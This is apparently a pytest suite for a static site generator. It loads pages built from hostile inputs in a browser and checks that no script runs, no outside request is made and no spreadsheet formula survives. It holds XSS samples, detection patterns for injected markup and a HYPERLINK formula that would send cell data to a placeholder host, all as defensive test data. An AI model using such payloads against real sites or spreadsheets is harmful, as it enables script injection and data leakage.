"""All harmless cases of ``tests/hostile`` in one site, in a real browser: nothing runs, asks, asks for or leaves."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from xml.etree import ElementTree

import nh3
import openpyxl
import pytest
from conftest import ROOT, is_of_icon
from playwright.sync_api import Browser, ConsoleMessage, Dialog, Frame, Page, Request
from shared import once, served

from planpress.pages.allowed import CONTENT, PREFIXES, SCHEMES

sys.path.append(str(ROOT / "tests"))
import hostile_cases
from hostile_cases import Case

PLAN = "2021-guihua.html"
# What no page of ours has, however it came there.
FOREIGN = """() => [...document.querySelectorAll("*")].filter(one =>
  [...one.attributes].some(a => /^on|^style$|^srcdoc$/.test(a.name) && one.id !== "clause-menu")
  || /^(IFRAME|OBJECT|EMBED|BASE|STYLE|MARQUEE|FRAME)$/.test(one.tagName)
  || (one.tagName === "SCRIPT" && !one.getAttribute("src") && one.type !== "application/ld+json")
  || /^\\s*(javascript|data|vbscript):/i.test(one.getAttribute("href") || one.getAttribute("src") || "")
).map(one => one.outerHTML.slice(0, 200))"""


@dataclass(slots=True)
class Built:
    """The site's folder, and the cases by the keys of their cities."""

    site: Path
    cases: dict[str, Case]


def make(project: Path) -> None:
    for name in ("docs", "hooks", "overrides"):
        shutil.copytree(ROOT / name, project / name, ignore=shutil.ignore_patterns("__pycache__"))
    hostile_cases.together(project / "plans")
    pages = [case for case in hostile_cases.read("docs") if case.harmless]
    for case in pages:
        hostile_cases.page(case, project / "docs")
    settings = (ROOT / "mkdocs.yml").read_text(encoding="utf-8").replace(", scripts/planpress/pages]", "]")
    settings = settings.rstrip() + "".join(f"\n      - {case.said['docs']['file']}" for case in pages) + "\n"
    (project / "mkdocs.yml").write_text(settings, encoding="utf-8")
    environment = {
        **os.environ,
        "NO_MKDOCS_2_WARNING": "1",
        "PYTHONPATH": str(ROOT / "scripts"),
        "PLANPRESS_SITE_URL": "https://planpress.invalid/",
    }
    command = [sys.executable, "-m", "mkdocs", "build", "--strict"]
    done = subprocess.run(command, cwd=project, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory) -> Built:
    folder = once(tmp_path_factory, "hostile", make)
    return Built(folder / "site", {case.key: case for case in hostile_cases.lodged()})


@pytest.fixture(scope="session")
def hosted(built: Built) -> Iterator[str]:
    with served(built.site) as address:
        yield address


@pytest.fixture(params=["http", "file"])
def start(request: pytest.FixtureRequest, built: Built) -> str:
    return built.site.as_uri() if request.param == "file" else str(request.getfixturevalue("hosted"))


@dataclass
class Watch:
    """A page of which everything is reported that a hostile text could bring about."""

    page: Page
    faults: list[str] = field(default_factory=list)
    expected: str = "about:blank"

    def __post_init__(self) -> None:
        page, faults = self.page, self.faults
        page.on("dialog", self._spoke)
        page.on("pageerror", lambda error: faults.append(f"error: {error}"))
        page.on("console", self._told)
        page.on("popup", lambda other: faults.append(f"window: {other.url}"))
        page.on("download", lambda file: faults.append(f"download: {file.url}"))
        page.on("framenavigated", self._went)
        page.on("request", self._ask)

    def _told(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning") and not is_of_icon(message):
            self.faults.append(f"console: {message.text}")

    def _spoke(self, dialog: Dialog) -> None:
        self.faults.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _went(self, frame: Frame) -> None:
        if frame.parent_frame or re.split("[?#]", frame.url)[0] not in ("about:blank", self.expected):
            self.faults.append(f"left for {frame.url}")

    def _ask(self, request: Request) -> None:
        # The browser finds no other host (conftest.HOSTS).
        if not request.url.startswith(("http://127.0.0.1", "file:")):
            self.faults.append(f"request: {request.url}")

    def open(self, url: str) -> None:
        whole = re.split("[?#]", url)[0]
        if whole == self.expected:
            # The same page with another anchor would not be loaded again.
            self.page.goto("about:blank")
        self.expected = whole
        self.page.goto(url, wait_until="load")
        self.page.wait_for_timeout(30)
        self.faults += [f"element: {found}" for found in self.page.evaluate(FOREIGN)]

    def nothing(self, what: str) -> None:
        assert self.faults == [], f"{what}: {self.faults[:10]}"


@pytest.fixture
def watch(browser: Browser) -> Iterator[Watch]:
    context = browser.new_context()
    yield Watch(context.new_page())
    context.close()


def test_the_watch_sees_what_it_is_for(watch: Watch, tmp_path: Path) -> None:
    (tmp_path / "index.html").write_text(
        "<script>alert(1)</script><img src=x onerror=alert(2)><img src=https://example.org/a.png>"
        "<script>setTimeout(() => location = 'other.html', 2000)</script>"
    )
    (tmp_path / "other.html").write_text("")
    watch.open((tmp_path / "index.html").as_uri())
    watch.page.wait_for_url("**/other.html")
    said = " ".join(watch.faults)
    for kind in ("dialog: 1", "dialog: 2", "request: https://example.org/a.png", "left "):
        assert kind in said


def test_no_page_of_any_case_does_anything(built: Built, watch: Watch, start: str) -> None:
    assert len(built.cases) > 40
    for path in sorted(built.site.rglob("*.html")):
        name = path.relative_to(built.site).as_posix()
        if name == "404.html" and start.startswith("file:"):
            continue
        watch.open(f"{start}/{name}")
        watch.nothing(name)


def test_sources_are_shown_as_text(built: Built, watch: Watch, start: str) -> None:
    cases = [key for key, case in built.cases.items() if case.said.get("opens_source")]
    assert cases
    for key in cases:
        (source,) = (built.site / "plans" / key / "sources").iterdir()
        assert source.suffix == ".txt"
        watch.expected = f"{start}/plans/{key}/sources/{source.name}"
        watch.page.goto(watch.expected)
        assert watch.page.evaluate("document.contentType") == "text/plain"
        watch.nothing(key)


def test_addresses(built: Built, watch: Watch, start: str) -> None:
    key = next(iter(built.cases))
    for case in hostile_cases.read("open"):
        for address in case.said["open"]:
            watch.open(f"{start}/{address.replace('@', key)}")
            watch.page.wait_for_timeout(150)
            watch.faults += [f"element: {found}" for found in watch.page.evaluate(FOREIGN)]
            watch.nothing(f"{case.name}: {address}")


@pytest.mark.parametrize("script", ["Hans", "Hant"])
def test_what_scripts_make_of_it(built: Built, watch: Watch, start: str, script: str) -> None:
    """Search, suggestions, the comparison and the menu of a clause, with hostile titles and names in them."""
    watch.open(f"{start}/about.html")
    watch.page.evaluate(f"localStorage.setItem('planpress-script', '{script}')")
    for query in ("script", "onerror", "alert(", "img src", "&lt;", "{{", "标准"):
        watch.open(f"{start}/search/index.html?q={query}")
        watch.page.wait_for_timeout(250)
        watch.page.locator(".find input").press_sequentially("<")
        watch.faults += watch.page.evaluate(FOREIGN)
    for address in (
        "compare/index.html",
        "compare/index.html#topic=agriculture",
        "compare/index.html#family=standards",
    ):
        plans = ",".join(f"{key}/2021-guihua" for key in list(built.cases)[:12])
        watch.open(f"{start}/{address}" + (f"&plans={plans}" if "#" in address else ""))
        watch.page.wait_for_timeout(250)
        watch.faults += watch.page.evaluate(FOREIGN)
    for key in [key for key in built.cases if "title" in key or "heading" in key]:
        watch.open(f"{start}/plans/{key}/{PLAN}?find=alert")
        watch.page.locator(".text .permalink").last.click()
        watch.page.locator(".clause-menu button").nth(1).click()
        watch.faults += watch.page.evaluate(FOREIGN)
        watch.nothing(key)
    watch.nothing(script)


def sanitised(html: str) -> str:
    return nh3.clean(
        html,
        tags=set(CONTENT) | {"use"},
        attributes={**CONTENT, "svg": CONTENT["svg"] | {"viewBox", "preserveAspectRatio"}, "*": {"id", "class", "title", "lang", "role", "tabindex", "hidden", "translate"}},
        generic_attribute_prefixes=set(PREFIXES),
        url_schemes=SCHEMES,
        link_rel=None,
    )  # fmt: skip


def test_a_sanitiser_finds_nothing_to_take_away(built: Built) -> None:
    """ammonia reads pages as browsers do; ours are made by escaping, so it must leave them as they are."""

    def attributes(html: str) -> list[str]:
        return sorted(re.findall(r"<[a-z0-9]+|\s[a-z-]+=", html.lower()))

    for path in sorted(built.site.glob("plans/*/*.html")):
        text = path.read_text(encoding="utf-8")
        content = text[text.index("<article") : text.index("</article>") + 10]
        assert attributes(sanitised(content)) == attributes(re.sub(r" hidden(?=[ >])", ' hidden=""', content)), path


def test_feed_and_sitemap_are_one_tree_each(built: Built) -> None:
    for name in ("feed.xml", "sitemap.xml"):
        data = (built.site / name).read_text(encoding="utf-8")
        assert "<!" not in data
        root = ElementTree.fromstring(data)
        known = {
            "feed",
            "id",
            "title",
            "updated",
            "link",
            "author",
            "name",
            "subtitle",
            "category",
            "entry",
            "published",
            "summary",
            "urlset",
            "url",
            "loc",
        }
        assert {element.tag.rpartition("}")[2] for element in root.iter()} <= known


def test_spreadsheets_find_no_formula(built: Built) -> None:
    for path in sorted((built.site / "data" / "v1").glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as file:
            for row in csv.reader(file):
                for cell in row:
                    assert not re.match(r"[=+@\t\r\n＝＋＠－]|-(?![\d.]+\Z)", cell), (path.name, cell)
    book = openpyxl.load_workbook(built.site / "data" / "v1" / "planpress.xlsx")
    formulas = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    labels = {cell.value for row in book["目标"].iter_rows() for cell in row}
    assert '=HYPERLINK("https://example.org/?"&A1)' in labels
